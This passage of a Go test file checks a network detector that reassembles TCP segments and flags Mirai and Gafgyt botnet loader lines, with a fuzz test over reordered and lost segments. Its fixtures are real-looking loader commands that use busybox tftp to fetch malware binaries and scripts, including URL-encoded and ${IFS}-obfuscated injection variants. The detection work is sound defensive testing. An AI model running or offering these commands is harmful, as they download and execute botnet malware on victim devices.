			{sport: p, dport: 80, seq: 1 + uint32(len(head)), payload: body[:k]}}
		evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
		if got := found(evs, p); !slices.Equal(got, []string{"mirai.tftp-loader/strong"}) {
			t.Errorf("body swapped at %d: %v", k, got)
		}
	}

	// A connection's first segment late: the handshake says where its
	// bytes start, so the second segment waits for it.
	line := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; echo ok\r\n"
	segs := []tseg{
		{sport: 3100, dport: 23, seq: 999, syn: true},
		{sport: 23, dport: 3100, seq: 4999, ack: 1000, synAck: true},
		{sport: 3100, dport: 23, seq: 1000, ack: 5000},
		{sport: 3100, dport: 23, seq: 1030, ack: 5000, payload: line[30:]},
		{sport: 3100, dport: 23, seq: 1000, ack: 5000, payload: line[:30]},
	}
	evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
	if got := found(evs, 3100); !slices.Equal(got, []string{"mirai.tftp-loader/strong"}) {
		t.Errorf("first segment late: %v", got)
	}
	for _, ev := range evs {
		if ev.Proof != evidence.ProofTCP {
			t.Errorf("%s: proof %s, want tcp", short(ev), ev.Proof)
		}
	}

	// A gap never filled: the held line is read afresh at the end, once;
	// a hold that cannot take a second region reads the first afresh.
	segs = []tseg{
		{sport: 3200, dport: 23, seq: 100, payload: "\xff\xfd\x01"},
		{sport: 3200, dport: 23, seq: 120, payload: "tftp -g -r tftp1.sh 10.0.0.9\r\n"},
		{sport: 3201, dport: 23, seq: 100, payload: "\xff\xfd\x01"},
		{sport: 3201, dport: 23, seq: 120, payload: "tftp -g -r tftp1.sh 10.0.0.9\r\n"},
		{sport: 3201, dport: 23, seq: 400, payload: "tftp -g -r mirai.arm7 10.0.0.9\r\n"},
	}
	evs, st := scanBytes(t, streamPcap(t, segs), Options{})
	if got := found(evs, 3200); !slices.Equal(got, []string{"gafgyt.tftp-loader/strong"}) {
		t.Errorf("gap never filled: %v", got)
	}
	if got := found(evs, 3201); !slices.Equal(got, []string{"gafgyt.tftp-loader/strong", "mirai.tftp-loader/strong"}) {
		t.Errorf("two gaps: %v", got)
	}
	if st.StreamGaps < 2 {
		t.Errorf("%d gaps counted", st.StreamGaps)
	}
}

// FuzzStreamSegments: a payload cut into segments delivered in any order,
// with repeats (retransmissions) and omissions (losses), never panics and
// keeps every stream within its bounds: the carry at most two tails and
// only while nothing is held, the cursor inside the carried bytes. And a
// loader line cut anywhere into segments sent in order is found exactly
// as the whole line is.
func FuzzStreamSegments(f *testing.F) {
	f.Add([]byte("/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9\r\n"), []byte{10, 3, 200, 7, 1, 1, 0, 2})
	f.Add([]byte("cmd=busybox%20tftp%20-g%20-r%20mirai.arm7%2010.0.0.9%3Bsh"), []byte{1, 0, 255, 9, 3, 3, 2})
	f.Add([]byte("x=`cd${IFS}/tmp;tftp${IFS}-r${IFS}ukloltftp2.sh${IFS}-g${IFS}1`"), []byte{40, 2, 1, 0})
	set := signatures.Default()
	f.Fuzz(func(t *testing.T, payload, plan []byte) {
		if len(payload) == 0 || len(plan) < 2 || len(payload) > 4096 {
			return
		}
		port := []uint16{23, 80, 8080, 4444}[plan[0]%4]
		// Cut points from the plan's odd bytes, segments in order.
		var segs []tseg
		for i, k := 1, 0; k < len(payload); i += 2 {
			size := 1 + int(plan[i%len(plan)])%97
			segs = append(segs, tseg{sport: 4000, dport: port, seq: 1000 + uint32(k), payload: string(payload[k:min(k+size, len(payload))])})
			k += size
		}
		at := baseTime
		check := func(m *Matcher) {
			s := m.streams
			if s == nil {
				return
			}
			for i := range s.e {
				if e := &s.e[i]; e.used && (int(e.n) > 2*s.tail || e.cur.Open < 0 || e.cur.Open > int(e.n) ||
					int(e.n) > s.tail && (e.heldN > 0 || e.headN > 0) || int(e.heldN) > s.tail || int(e.headN) > s.tail) {
					t.Fatalf("stream %d: %d carried, open at %d, %d held, head %d", i, e.n, e.cur.Open, e.heldN, e.headN)
				}
			}
		}
		// Any order, repeats and losses, from the plan's even bytes.
		m := NewMatcher(StaticSet{set}, evidencetest.Discard{}, Options{Streams: 16, StreamTail: 64})
		for i := 0; i < len(plan); i += 2 {
			s := segs[int(plan[i])%len(segs)]
			at = at.Add(time.Duration(plan[(i+1)%len(plan)]) * time.Second)
			m.Packet(layers.LinkTypeEthernet, tcpSeg(t, infected, victim, s), Meta{Time: at})
			check(m)
		}
		m.flushStreams("fuzz")

		// A loader line, cut by the same plan, in order.
		l := loaderLines[int(plan[1])%len(loaderLines)]
		var whole, split evidencetest.Recorder
		one := Options{Streams: 4} // one stream: a small table, quick to make
		NewMatcher(StaticSet{set}, &whole, one).Packet(layers.LinkTypeEthernet,
			tcpSeg(t, infected, victim, tseg{sport: 4001, dport: l.port, seq: 1, payload: l.line}), Meta{Time: baseTime})
		sm := NewMatcher(StaticSet{set}, &split, one)
		for i, k := 0, 0; k < len(l.line); i++ {
			size := 1 + int(plan[i%len(plan)])%97
			sm.Packet(layers.LinkTypeEthernet, tcpSeg(t, infected, victim, tseg{sport: 4001, dport: l.port, seq: 1 + uint32(k),
				payload: l.line[k:min(k+size, len(l.line))]}), Meta{Time: baseTime})
			k += size
		}
		sm.flushStreams("")
		if a, b := found(whole.Events(), 4001), found(split.Events(), 4001); !slices.Equal(a, b) {
			t.Fatalf("line %q cut by %v: %v, whole %v", l.line, plan, b, a)
		}
	})
}
